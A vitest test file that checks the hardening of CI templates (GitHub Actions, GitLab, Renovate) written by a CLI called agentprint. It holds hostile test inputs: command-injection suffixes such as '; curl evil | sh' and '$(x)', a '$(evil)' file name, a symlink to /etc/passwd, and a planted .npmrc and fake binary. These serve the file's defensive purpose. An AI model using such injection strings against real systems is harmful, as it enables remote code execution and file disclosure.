import { cpSync, mkdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import { dirname, join } from "node:path";
import { outputOf, runProgram } from "@agentprint/testing/programs";
import { afterEach, beforeEach, describe, expect, test } from "vitest";
import { parse } from "yaml";
import { REPOSITORY } from "../support/action-run.ts";
import { hostile } from "../support/hostile.ts";
import { Repository } from "../support/repository.ts";
import { AGENTPRINT_LINE } from "../support/spawn-cli.ts";
import { Workspace } from "../support/workspace.ts";

let workspace = [] as unknown as Workspace;
beforeEach(() => {
  workspace = new Workspace();
});
afterEach(() => workspace[Symbol.dispose]());

const template = (name: string): string =>
  readFileSync(join(REPOSITORY, "apps/cli/templates", name), "utf8")
    .replaceAll("{version}", "0.1.0")
    .replaceAll("{integrity}", '""');

/** Runs a shell line in which npm installs agentprint@0.1.0 from source. */
function shell(line: string, env: Readonly<Record<string, string>>, folder = workspace.folder) {
  mkdirSync(workspace.path("bin"), { recursive: true });
  const npm = `#!/bin/sh
[ "$1 $2" = "install --prefix" ] && [ "$#:$7:$8" = "8:--ignore-scripts:agentprint@0.1.0" ] || exit 99
if [ -e .npmrc ]; then exit 98; fi
mkdir -p "$3/node_modules/.bin"
printf '%s\\n' '#!/bin/sh' 'exec ${AGENTPRINT_LINE} "$@"' >"$3/node_modules/.bin/agentprint"
chmod +x "$3/node_modules/.bin/agentprint"
`;
  writeFileSync(workspace.path("bin/npm"), npm, { mode: 0o755 });
  const path = `${workspace.path("bin")}:${dirname(process.execPath)}:/usr/bin:/bin`;
  return runProgram("sh", ["-ec", line], { cwd: folder, env: { PATH: path, ...env } });
}

async function pin(): Promise<void> {
  const args = ["pin", "--name", "server", "--env", "HOSTILE_TEXT", "--", ...hostile("terminal-escapes")];
  expect((await workspace.run(args, { HOSTILE_TEXT: "before" })).code).toBe(0);
}

/**
 * Runs the commands of the file for a CI service, as its runner does; the project may be a subfolder of the repository.
 */
function runFile(service: "github" | "gitlab", base: string, text: string) {
  const env = { HOSTILE_TEXT: text };
  if (service === "gitlab") {
    const line = (parse(template("gitlab.yml")).agentprint.script as string[]).join("\n");
    return shell(line, { ...env, CI_PROJECT_DIR: workspace.folder, CI_MERGE_REQUEST_DIFF_BASE_SHA: base });
  }
  const steps = parse(template("github.yml")).jobs.check.steps as Record<string, string>[];
  const [install, check] = steps.filter(({ run }) => run !== undefined);
  const runner = { RUNNER_TEMP: workspace.path("temp"), GITHUB_STEP_SUMMARY: workspace.path("temp/summary.md") };
  mkdirSync(workspace.path("temp"), { recursive: true });
  expect(shell(install?.["run"] ?? "", runner, runner.RUNNER_TEMP)).toMatchObject({ status: 0 });
  return shell(check?.["run"] ?? "", { ...runner, ...env, BASE: base });
}

describe.each(["github", "gitlab"] as const)("the file that init writes for %s", (service) => {
  test("has the exit code and the report of the check", async () => {
    await pin();
    expect(runFile(service, "", "before").status).toBe(0);
    const { status, stdout } = runFile(service, "", "after");
    expect(status).toBe(1);
    if (service === "github") {
      expect(stdout).toMatch(/^::error file=agentprint\.lock,line=\d+,/m);
      expect(readFileSync(workspace.path("temp/summary.md"), "utf8")).toMatch(/^## agentprint check\n/);
    } else {
      const { codequality } = parse(template("gitlab.yml")).agentprint.artifacts.reports;
      expect(JSON.parse(readFileSync(workspace.path(codequality), "utf8"))).toHaveLength(4);
    }
  });

  test("takes neither the program nor the policy of the change", async () => {
    await pin();
    const repository = new Repository(workspace.folder);
    const base = repository.commit();
    writeFileSync(workspace.path("agentprint.config.json"), '{ "rules": { "mcp/tool-prose-changed": "off" } }');
    writeFileSync(workspace.path(".npmrc"), "registry=http://127.0.0.1:9/\n");
    mkdirSync(workspace.path("node_modules/.bin"), { recursive: true });
    writeFileSync(workspace.path("node_modules/.bin/agentprint"), "#!/bin/sh\nexit 0\n", { mode: 0o755 });
    repository.commit();
    const { status, stdout } = runFile(service, base, "before");
    expect(status).toBe(1);
    expect(stdout).toContain("weaker");
  });
});

test("the job of GitLab checks no merge request without a base", async () => {
  await pin();
  const line = (parse(template("gitlab.yml")).agentprint.script as string[]).join("\n");
  const env = { HOSTILE_TEXT: "before", CI_PROJECT_DIR: workspace.folder, CI_PIPELINE_SOURCE: "merge_request_event" };
  expect(shell(line, env)).toMatchObject({ status: 1, stdout: "" });
  expect(shell(line, { ...env, CI_PIPELINE_SOURCE: "schedule" })).toMatchObject({ status: 0 });
});

describe("the workflow for hosted Renovate", () => {
  const { jobs, permissions } = parse(template("renovate-pin.yml"));
  const stepsOf = (job: string) => jobs[job].steps as { name?: string; run?: string; uses?: string; with?: object }[];
  const scriptOf = (job: string, name: string): string => stepsOf(job).find((step) => step.name === name)?.run ?? "";

  test("runs the servers without secrets and with a token that reads, and writes in another job", () => {
    expect(permissions).toEqual({});
    expect([jobs.pin.permissions, jobs.push.permissions]).toEqual([{ contents: "read" }, { contents: "write" }]);
    expect(jobs.pin.if).toContain("user.login == 'renovate[bot]'");
    expect(jobs.pin.if).toContain("head.repo.full_name == github.repository");
    expect(JSON.stringify(jobs.pin)).not.toContain("secrets.");
    const checkout = stepsOf("pin").find(({ uses }) => uses?.startsWith("actions/checkout@"));
    expect(checkout?.with).toMatchObject({ "persist-credentials": false });
    const commands = stepsOf("push").flatMap(({ run = "" }) => run);
    expect(commands.join("\n")).not.toMatch(/agentprint["']? pin|npm|npx|node /);
    for (const { run = "" } of [...stepsOf("pin"), ...stepsOf("push")]) expect(run).not.toContain("${" + "{");
  });

  test("pins updated servers again, and pushes the lock alone", async () => {
    using origin = new Workspace();
    const [command = "", script = ""] = hostile("terminal-escapes");
    const configure = (version: string): void => {
      const server = { command, args: [script, version], env: { HOSTILE_TEXT: "before" } };
      writeFileSync(origin.path(".mcp.json"), JSON.stringify({ mcpServers: { server } }));
    };
    configure("server@1.2.3");
    expect((await origin.run(["pin", "--mcp-config", ".mcp.json"])).code).toBe(0);
    const repository = new Repository(origin.folder);
    repository.git("checkout", "--quiet", "-b", "renovate/server");
    configure("server@1.2.4");
    repository.commit();
    repository.git("checkout", "--quiet", "--detach");

    const folder = workspace.path("checkout");
    outputOf("git", ["clone", "--quiet", "--branch=renovate/server", origin.folder, folder]);
    const env = { RUNNER_TEMP: workspace.path("temp"), BRANCH: "renovate/server", HOME: workspace.folder };
    mkdirSync(workspace.path("temp/lock"), { recursive: true });
    expect(shell(scriptOf("pin", "Install agentprint"), env, env.RUNNER_TEMP)).toMatchObject({ status: 0 });
    expect(shell(scriptOf("pin", "Pin the MCP servers"), env, folder)).toMatchObject({ status: 0 });
    cpSync(join(folder, "agentprint.lock"), workspace.path("temp/lock/agentprint.lock"));
    outputOf("git", ["reset", "--quiet", "--hard"], { cwd: folder });

    const push = (): string => {
      expect(shell(scriptOf("push", "Push the lock"), env, folder)).toMatchObject({ status: 0 });
      return repository.git("rev-parse", "renovate/server");
    };
    const pushed = push();
    expect(repository.git("show", "--format=%an", "--name-only", pushed)).toBe(
      "github-actions[bot]\n\nagentprint.lock",
    );
    expect(repository.git("show", `${pushed}:agentprint.lock`)).toContain("server@1.2.4");
    expect(push()).toBe(pushed);
    rmSync(workspace.path("temp/lock/agentprint.lock"));
    symlinkSync("/etc/passwd", workspace.path("temp/lock/agentprint.lock"));
    expect(shell(scriptOf("push", "Push the lock"), env, folder)).toMatchObject({ status: 1 });
  });
});

describe("the recipe for Renovate", () => {
  const { customManagers, packageRules } = JSON.parse(template("renovate.json"));

  test("finds the exact versions in launches, and nothing else", () => {
    const [manager] = customManagers;
    const args = [
      "-y",
      "@scope/server@1.2.3",
      "plain@2.0.0-rc.1",
      "floating@latest",
      "none",
      "me@example.com",
      "./a@1.2.3",
    ];
    const found = [...JSON.stringify({ args }).matchAll(new RegExp(manager.matchStrings[0], "g"))];
    expect(found.map(({ groups }) => ({ ...groups }))).toEqual([
      { depName: "@scope/server", currentValue: "1.2.3" },
      { depName: "plain", currentValue: "2.0.0-rc.1" },
    ]);
    const pattern = new RegExp((manager.managerFilePatterns[0] as string).slice(1, -1));
    expect(pattern.test(".mcp.json")).toBe(true);
    expect(["xmcp.json", "x/.mcp.json", "$(evil)/.mcp.json", ".mcp.json5"].some((file) => pattern.test(file))).toBe(
      false,
    );
  });

  const [line = "", ...others] = packageRules[0].postUpgradeTasks.commands as string[];
  const [list = "[]"] = /^\["\^\/opt.*\]$/m.exec(readFileSync(join(REPOSITORY, "docs/ci.md"), "utf8")) ?? [];
  const [allowed = "", ...moreAllowed] = JSON.parse(list) as string[];

  test("is one command with a fixed path that names no file of the repository, and the only one that is allowed", () => {
    expect([...others, ...moreAllowed]).toEqual([]);
    expect(line).not.toMatch(/npx|\{\{|[;&|$`<>]/);
    const pattern = new RegExp(allowed);
    expect(pattern.test(line)).toBe(true);
    const more = ["; curl evil | sh", " && x", "\nx", " x", "$(x)", ".x"];
    for (const other of [
      ...more.map((each) => line + each),
      `x${line}`,
      `x; ${line}`,
      line.replace("/opt/", "/tmp/"),
      line.replaceAll(".", "x"),
    ]) {
      expect(pattern.test(other), other).toBe(false);
    }
  });

  test("pins a server again after its version was updated", async () => {
    const [command = "", script = ""] = hostile("terminal-escapes");
    const server = (version: string) => ({ command, args: [script, version], env: { HOSTILE_TEXT: "before" } });
    const write = (version: string) =>
      writeFileSync(workspace.path(".mcp.json"), JSON.stringify({ mcpServers: { server: server(version) } }));
    write("server@1.2.3");
    expect((await workspace.run(["pin", "--mcp-config", ".mcp.json"])).code).toBe(0);
    write("server@1.2.4");
    expect(shell(line.replace("/opt/agentprint/node_modules/.bin/agentprint", AGENTPRINT_LINE), {}).status).toBe(0);
    expect(workspace.lock().servers.map(({ launch }) => launch)).toMatchObject([{ args: [script, "server@1.2.4"] }]);
  });
});

describe("the order of steps", () => {
  const stepsOf = (name: string): { uses?: string; run?: string; with?: Record<string, unknown> }[] =>
    Object.values(parse(template(name)).jobs as Record<string, { steps: [] }>).flatMap(({ steps }) => steps);

  test.each(["github.yml", "github-action.yml", "renovate-pin.yml"])(
    "of %s sets tools up before the checkout",
    (name) => {
      const uses = stepsOf(name).map((step) => step.uses ?? step.run ?? "");
      const [checkout, setUp, install] = ["actions/checkout@", "actions/setup-node@", "npm install"].map((text) =>
        uses.findIndex((each) => each.includes(text)),
      ) as [number, number, number];
      expect(setUp).toBeGreaterThanOrEqual(0);
      expect(setUp).toBeLessThan(checkout);
      expect(install).toBeLessThan(checkout);
      expect(stepsOf(name)[setUp]?.with).toMatchObject({ "package-manager-cache": false });
    },
  );

  test.each(["github.yml", "github-action.yml"])("of %s is run again where the base is changed", (name) => {
    const { pull_request: event } = parse(template(name)).on;
    expect(event.types).toEqual(expect.arrayContaining(["opened", "reopened", "synchronize", "edited"]));
  });

  test.each(["github.yml", "github-action.yml"])(
    "of %s gives secrets to no fork, and to no step but the check",
    (name) => {
      const { on, permissions, jobs } = parse(template(name));
      // For a pull request from a fork, the token of `pull_request` can only read, and the run has no secrets.
      expect(Object.keys(on).sort()).toEqual(["merge_group", "pull_request", "schedule"]);
      expect(permissions.contents).toBe("read");
      const others = (jobs.check.steps as { uses?: string }[]).filter((step) => !/check/.test(JSON.stringify(step)));
      expect(JSON.stringify(others)).not.toMatch(/secrets|GITHUB_TOKEN|"env"/);
      expect(JSON.stringify(jobs)).toContain('"persist-credentials":false');
    },
  );

  test.each([
    "github.yml",
    "github-action.yml",
    "gitlab.yml",
    "renovate-pin.yml",
    "renovate.json",
    "pre-commit-config.yaml",
  ])("of %s has no program of the checkout, and an exact version", (name) => {
    const text = template(name);
    expect(text).not.toMatch(/npx|pull_request_target:|agentprint@(?!0\.1\.0|v0)/);
  });
});
